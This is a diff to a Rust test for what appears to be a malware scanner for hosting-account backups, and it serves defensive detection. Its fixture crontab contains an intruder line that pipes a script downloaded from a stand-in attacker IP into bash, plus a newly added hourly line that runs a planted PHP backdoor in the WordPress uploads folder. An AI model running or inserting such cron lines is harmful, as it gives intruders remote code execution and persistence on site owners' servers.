@@ -84,7 +84,7 @@ fn p(rest: &str) -> String {
 
 /// The whole account: owner's files from 2023, the intruder's from 2024-07-28.
 pub fn account_backup(extra: &[(String, Vec<u8>, u64)]) -> Vec<u8> {
-    let cron = b"MAILTO=\"jane@janes-bakery.example\"\nSHELL=\"/bin/bash\"\n*/15 * * * * /usr/local/bin/php /home/jane/public_html/wp-cron.php >/dev/null 2>&1\n*/10 * * * * curl -fsSL http://198.51.100.7/.x/u.sh | bash >/dev/null 2>&1\n".to_vec();
+    let cron = b"MAILTO=\"jane@janes-bakery.example\"\nSHELL=\"/bin/bash\"\n*/15 * * * * /usr/local/bin/php /home/jane/public_html/wp-cron.php >/dev/null 2>&1\n*/10 * * * * curl -fsSL http://198.51.100.7/.x/u.sh | bash >/dev/null 2>&1\n0 * * * * /usr/local/bin/php /home/jane/public_html/wp-content/uploads/2024/07/cache.php >/dev/null 2>&1\n".to_vec();
     let keys = format!(
         "ssh-ed25519 {} jane@laptop\nssh-ed25519 {} deploy@build-7\n",
         key("ssh-ed25519", 1),
@@ -177,10 +177,13 @@ fn a_cpanel_full_backup_is_read_as_the_whole_account() {
     assert!(r.roots.contains(&addon_root), "{:?}", r.roots);
 
     // Cron: both lines in plain words, the intruder's malicious at its line.
-    assert_eq!(a.cron.len(), 2);
+    assert_eq!(a.cron.len(), 3);
     assert_eq!(a.cron[0].when, "every 15 minutes");
     assert_eq!(a.cron[0].verdict, Verdict::Clean);
     assert_eq!(a.cron[1].verdict, Verdict::Malicious);
+    // A harmless-looking line that runs the planted backdoor is the intruder's too.
+    assert_eq!(a.cron[2].verdict, Verdict::Malicious, "{:?}", a.cron[2]);
+    assert!(a.cron[2].flags[0].contains("cache.php"));
     let cron = file(&r, "cron/jane");
     assert_eq!(cron.verdict, Verdict::Malicious);
     assert_eq!(
